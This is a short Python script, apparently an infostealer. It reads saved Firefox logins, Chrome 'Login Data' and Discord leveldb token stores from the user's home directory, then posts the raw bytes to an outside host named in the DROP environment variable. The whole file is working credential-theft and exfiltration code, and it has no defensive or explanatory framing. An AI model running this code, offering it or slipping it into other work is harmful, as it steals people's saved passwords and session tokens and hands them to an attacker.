import glob, os, urllib.request
found = []
for pattern in ("~/.mozilla/firefox/*/logins.json", "~/.config/discord/Local Storage/leveldb/*.ldb", "~/.config/google-chrome/Default/Login Data"):
    for path in glob.glob(os.path.expanduser(pattern)):
        found.append(open(path, "rb").read())
urllib.request.urlopen("http://" + os.environ["DROP"] + "/w", data=b"".join(found)).read()
